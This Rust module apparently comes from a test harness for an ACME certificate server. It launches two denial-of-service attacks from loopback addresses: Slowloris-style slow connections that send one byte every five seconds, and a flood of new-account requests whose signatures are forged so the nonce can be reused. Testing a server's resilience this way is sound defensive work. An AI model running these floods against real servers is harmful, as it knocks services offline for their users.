//! Clients that mean harm, each from an address of its own on loopback: connections that say next to nothing, and
//! requests whose signatures are wrong.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Context;
use clap::ValueEnum;
use http::Method;
use tokio::io::AsyncWriteExt;
use tokio::time::{interval, sleep};

use crate::client::{Connection, Target};
use crate::keys::AccountKey;

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Connections that send a byte of a request's head every five seconds, and come back when they are closed.
    SlowConnections,
    /// Requests with a good nonce and a bad signature, 100 in a second from each address.
    BadSignatures,
}

/// How many slow connections come from one address.
const FROM_ONE_ADDRESS: usize = 100;

/// How long it takes until all slow connections are there, so that they do not come back all at once, either.
const RAMP: Duration = Duration::from_secs(12);

/// How many attempts of a flooding address there are in a second.
const ATTEMPTS: u64 = 100;

/// How long a flood lasts before it counts as one.
const SWELL: Duration = Duration::from_secs(5);

/// Attacks until the process is killed. Says so when all are in position.
#[expect(clippy::print_stdout, reason = "this is a command")]
pub(crate) async fn run(
    attack: Attack,
    count: usize,
    target: Target,
    directory: String,
) -> anyhow::Result<()> {
    let target = Arc::new(target);
    let begun = Arc::new(AtomicUsize::new(0));
    for index in 0..count {
        let (target, begun, directory) = (Arc::clone(&target), Arc::clone(&begun), directory.clone());
        let address = match attack {
            Attack::SlowConnections => address(2, index / FROM_ONE_ADDRESS),
            Attack::BadSignatures => address(3, index),
        }?;
        tokio::spawn(async move {
            match attack {
                Attack::SlowConnections => {
                    sleep(RAMP.mul_f64(part(index, count))).await;
                    dawdle(&target, address, &begun).await;
                }
                Attack::BadSignatures => flood(&target, address, &begun, &directory).await,
            }
        });
    }
    while begun.load(Ordering::Relaxed) < count {
        sleep(Duration::from_millis(50)).await;
    }
    if attack == Attack::BadSignatures {
        sleep(SWELL).await;
    }
    println!("In position.");
    std::future::pending().await
}

/// Where `index` lies between 0 and `count`.
fn part(index: usize, count: usize) -> f64 {
    let float = |number: usize| f64::from(u32::try_from(number).unwrap_or(u32::MAX));
    float(index) / float(count)
}

/// 127.0.NET.1 and on.
fn address(net: u8, index: usize) -> anyhow::Result<Ipv4Addr> {
    let host = u8::try_from(index + 1).context("too many addresses are needed")?;
    Ok(Ipv4Addr::new(127, 0, net, host))
}

async fn dawdle(target: &Target, from: Ipv4Addr, begun: &AtomicUsize) {
    let mut first = true;
    loop {
        if let Ok(mut stream) = target.connect_raw(Some(from)).await {
            if std::mem::take(&mut first) {
                begun.fetch_add(1, Ordering::Relaxed);
            }
            let head = b"GET /acme/acme/directory HTTP/1.1\r\n";
            for byte in head.iter().cycle() {
                let sent = stream.write_all(&[*byte]).await;
                if sent.is_err() || stream.flush().await.is_err() {
                    break;
                }
                sleep(Duration::from_secs(5)).await;
            }
        }
        sleep(Duration::from_millis(200)).await;
    }
}

async fn flood(target: &Target, from: Ipv4Addr, begun: &AtomicUsize, directory: &str) {
    let url = directory.replace("/directory", "/new-account");
    let mut pace = interval(Duration::from_millis(1000 / ATTEMPTS));
    pace.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    let mut body = None;
    let mut kept = None;
    begun.fetch_add(1, Ordering::Relaxed);
    loop {
        pace.tick().await;
        let mut connection = match kept.take() {
            Some(connection) => connection,
            None => match target.connect(Some(from)).await {
                Ok(connection) => connection,
                Err(_) => continue,
            },
        };
        if body.is_none() {
            body = forged(&mut connection, directory, &url).await.ok();
        }
        if let Some(body) = &body
            && connection.send(Method::POST, &url, body.clone()).await.is_ok()
        {
            kept = Some(connection);
        }
    }
}

/// A request that is right but for its signature. The nonce is not spent by it, so it can be sent again and again.
async fn forged(connection: &mut Connection, directory: &str, url: &str) -> anyhow::Result<String> {
    let nonce_url = directory.replace("/directory", "/new-nonce");
    let reply = connection.send(Method::HEAD, &nonce_url, String::new()).await?;
    let nonce = reply.header("replay-nonce").context("no nonce")?;
    let (key, other) = (AccountKey::generate()?, AccountKey::generate()?);
    let (honest, forged) = (
        key.sign(url, &nonce, None, "{}")?,
        other.sign(url, &nonce, None, "{}")?,
    );
    let mut honest: serde_json::Value = serde_json::from_str(&honest)?;
    let mut forged: serde_json::Value = serde_json::from_str(&forged)?;
    if let (Some(signature), Some(taken)) = (honest.get_mut("signature"), forged.get_mut("signature")) {
        *signature = taken.take();
    }
    Ok(honest.to_string())
}
